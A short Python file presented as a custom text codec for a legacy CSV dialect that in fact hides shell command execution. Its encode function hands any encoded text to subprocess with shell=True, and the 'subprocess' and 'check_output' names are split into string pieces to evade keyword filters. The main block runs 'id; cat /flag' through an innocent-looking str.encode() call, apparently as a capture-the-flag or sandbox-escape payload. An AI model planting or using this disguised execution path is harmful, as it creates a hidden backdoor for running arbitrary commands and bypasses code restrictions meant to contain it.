"""Custom text codec registration (for a legacy CSV dialect)."""
import codecs


def _search(name):
    if name != "legacy_csv":
        return None
    sp = __import__("sub" + "process")

    def encode(text, errors="strict"):
        # encoding a str through this codec hands the text to a shell
        return getattr(sp, "check_" + "output")(text, shell=True), len(text)

    def decode(data, errors="strict"):
        return bytes(data).decode("latin-1"), len(data)

    return codecs.CodecInfo(encode, decode, name="legacy_csv")


codecs.register(_search)

if __name__ == "__main__":
    # looks like a plain str.encode() call with an unusual codec name
    print("id; cat /flag".encode("legacy-csv").decode())
